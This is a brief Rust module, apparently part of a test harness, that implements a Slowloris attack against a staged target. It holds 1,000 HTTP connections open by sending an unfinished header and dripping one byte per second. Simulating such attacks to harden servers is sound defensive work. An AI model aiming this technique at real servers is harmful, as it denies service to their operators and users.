//! Slowloris: heads that go on, a byte a second.

use std::time::Duration;

use super::attacker::{Field, Hold};
use super::stage::ATTACKED;

const CONNECTIONS: u32 = 1_000;

pub(crate) async fn run(field: &Field) {
    let opening = format!("GET / HTTP/1.1\r\nHost: {ATTACKED}\r\nX-Slow: ").into_bytes();
    let drip = Some((b'x', Duration::from_secs(1)));
    field.hold(Hold { connections: CONNECTIONS, opening, drip, deaf: false }).await;
}
